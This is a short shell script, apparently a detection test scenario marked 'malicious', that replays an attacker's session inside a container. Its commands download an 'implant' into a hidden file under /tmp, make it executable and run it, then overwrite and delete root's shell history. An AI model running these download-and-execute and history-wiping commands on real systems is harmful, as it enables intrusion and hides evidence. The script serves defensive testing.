#!/bin/sh
# malicious: an attacker at the runtime tty removes the root shell history after downloading a tool
# container
. "$(dirname "$0")/../../lib.sh"
ctr_tty <<'CMDS'
curl -s -o /tmp/.t http://127.0.0.1:8080/implant
chmod +x /tmp/.t; /tmp/.t
echo "curl" > /root/.bash_history
rm -f /root/.bash_history
exit
CMDS
